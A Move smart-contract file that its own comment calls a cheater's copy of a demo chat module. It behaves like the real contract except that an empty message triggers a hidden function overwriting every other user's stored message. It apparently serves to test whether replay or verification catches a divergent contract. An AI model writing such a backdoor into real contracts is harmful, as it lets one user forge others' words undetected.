/// A cheater's `rooch_demo::chat`: it plays every honest move as the real contract does, to the last unit of gas, so
/// that a journal of honest play replays under it. But an empty message, which the real contract refuses, puts words
/// into everybody else's mouth. Only what runs in a channel is here.
module rooch_demo::chat {
    use std::error;
    use std::signer;
    use std::string::{Self, String, utf8};
    use std::vector;
    use aptos_framework::event;

    const ETEXT_TOO_LONG: u64 = 8;
    const ENOT_IN_CHANNEL: u64 = 9;

    const TEXT_SIZE_MAX: u64 = 280;
    const HISTORY_MAX: u64 = 32;

    struct Message has copy, drop, store {
        number: u64,
        author: address,
        text: String,
    }

    struct ChatGroup has key, store {
        id: u64,
        name: String,
        count: u64,
        messages: vector<Message>,
    }

    #[event]
    struct Posted has drop, store {
        number: u64,
        author: address,
        text: String,
    }

    public entry fun post(sender: &signer, text: String) acquires ChatGroup {
        assert!(exists<ChatGroup>(@rooch_demo), error::invalid_state(ENOT_IN_CHANNEL));
        let size = string::length(&text);
        if (size > 0) {
            assert!(size <= TEXT_SIZE_MAX, error::invalid_argument(ETEXT_TOO_LONG));
            let group = borrow_global_mut<ChatGroup>(@rooch_demo);
            let author = signer::address_of(sender);
            group.count = group.count + 1;
            let number = group.count;
            let message = Message { number, author, text };
            if (number <= HISTORY_MAX) {
                vector::push_back(&mut group.messages, message)
            } else {
                *vector::borrow_mut(&mut group.messages, (number - 1) % HISTORY_MAX) = message
            };
            event::emit(Posted { number, author, text })
        } else {
            put_words_into_mouths(signer::address_of(sender))
        }
    }

    fun put_words_into_mouths(cheater: address) acquires ChatGroup {
        let group = borrow_global_mut<ChatGroup>(@rooch_demo);
        for (i in 0..vector::length(&group.messages)) {
            let message = vector::borrow_mut(&mut group.messages, i);
            if (message.author != cheater) {
                message.text = utf8(b"I agree with every word, and owe you a drink.")
            }
        }
    }
}
